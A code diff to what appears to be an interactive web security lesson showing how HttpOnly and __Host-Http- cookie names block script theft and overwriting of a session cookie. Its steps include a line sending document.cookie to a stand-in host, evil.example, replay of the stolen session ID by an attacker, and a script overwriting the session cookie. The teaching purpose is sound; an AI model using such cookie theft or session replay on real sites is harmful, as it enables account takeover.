@@ -56,8 +56,13 @@ export default scenario({
     {
       title: 'The script sends document.cookie to evil.example',
       purpose: 'Steal the cookie',
-      narration:
-        'Reading document.cookie takes one line, and an image whose URL contains the result sends it to any server. HttpOnly means that the browser sends this cookie but shows it to no script.',
+      narration: {
+        vulnerable:
+          'Reading document.cookie takes one line, and an image whose URL contains the result sends it to any server. This session cookie has no HttpOnly, so the browser shows it to every script of the page.',
+        protected:
+          'Reading document.cookie takes one line, and an image whose URL contains the result sends it to any server. But the session cookie is HttpOnly: the browser sends it and shows it to no script. The text is empty.',
+        both: 'Reading document.cookie takes one line, and an image whose URL contains the result sends it to any server. HttpOnly means that the browser sends this cookie but shows it to no script.',
+      },
       act: ({ alice }) => alice.image(`https://evil.example/loot?${encodeURIComponent(alice.readCookies())}`),
       ask: {
         question: 'Did the session ID arrive at evil.example?',
@@ -69,8 +74,13 @@ export default scenario({
     {
       title: 'Mallory sends what she received',
       purpose: 'Use it on another computer',
-      narration:
-        'She sends it from her own computer. A stolen session ID works there even after Alice closes the page: a cookie does not say which browser it was issued to. If the script could not read one, Mallory has nothing to send.',
+      narration: {
+        vulnerable:
+          'She sends it from her own computer. A stolen session ID works there even after Alice closes the page: a cookie does not say which browser it was issued to.',
+        protected:
+          'She received an address without a cookie in it, so she has nothing to send. To the shop she is a visitor: 401.',
+        both: 'She sends it from her own computer. A stolen session ID works there even after Alice closes the page: a cookie does not say which browser it was issued to. If the script could not read one, Mallory has nothing to send.',
+      },
       act: ({ mallory, alice }) => mallory.get('/me', { cookie: loot(alice) }),
       claims: { vulnerable: ['mallory sends the session ID of alice'], protected: ['mallory sends no session cookie'] },
       ask: {
@@ -115,8 +125,13 @@ export default scenario({
     {
       title: 'The script writes its own session cookie',
       purpose: 'Replace the session cookie',
-      narration:
-        'A script that can write the session cookie can put Alice into a session of its choice, or out of hers. A browser lets no script overwrite an HttpOnly cookie. A script can still fill the cookie jar until the browser drops the oldest, and then set its own, unless the name begins with __Host-Http-: no script may set such a cookie.',
+      narration: {
+        vulnerable:
+          'A script that can write the session cookie can put Alice into a session of its choice, or out of hers. Without HttpOnly the browser lets it overwrite the shop’s cookie. Under a name that begins with __Host-Http-, no script may set a cookie.',
+        protected:
+          'The browser lets no script overwrite an HttpOnly cookie, so the shop’s stays. A script can still fill the cookie jar until the browser drops the oldest, and then set its own, unless the name begins with __Host-Http-: no script may set such a cookie.',
+        both: 'A script that can write the session cookie can put Alice into a session of its choice, or out of hers. A browser lets no script overwrite an HttpOnly cookie. A script can still fill the cookie jar until the browser drops the oldest, and then set its own, unless the name begins with __Host-Http-: no script may set such a cookie.',
+      },
       act: ({ alice }) => alice.writeCookie('__Host-sid=written-by-a-script; Path=/; Secure'),
       ask: {
         question: 'Did the browser accept it?',
